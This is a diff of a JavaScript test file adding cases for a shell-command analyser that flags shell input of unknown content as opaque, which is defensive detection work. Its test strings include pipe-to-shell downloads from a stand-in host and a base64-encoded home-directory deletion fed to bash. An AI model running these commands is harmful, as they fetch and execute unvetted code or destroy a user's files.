@@ -134,6 +134,30 @@ describe('what an interpreter is fed is said', () => {
   });
 });
 
+describe('what a shell is fed and nobody knows is opaque', () => {
+  it.each([
+    'curl https://x.example | sh',
+    'echo cm0gLXJmIH4= | base64 -d | bash',
+    'sh < script',
+    'curl x | sudo -n bash -s',
+    'curl x | bash -s -- -y',
+    'bash <<< "$x"',
+    'curl x | env -i zsh -e',
+  ])('%s', (text) => {
+    expect(read(text).opaque).toEqual([expect.stringContaining('not literal')]);
+  });
+
+  it.each([
+    'sh script',
+    'curl x | sh script',
+    'sh <<< ls',
+    'ls | bash --version',
+    'sh < /dev/null',
+  ])('not %s', (text) => {
+    expect(read(text).opaque).toEqual([]);
+  });
+});
+
 describe('variables that programs obey are said', () => {
   it.each([
     ['GIT_SSH_COMMAND=x git fetch', 'GIT_SSH_COMMAND=x'],
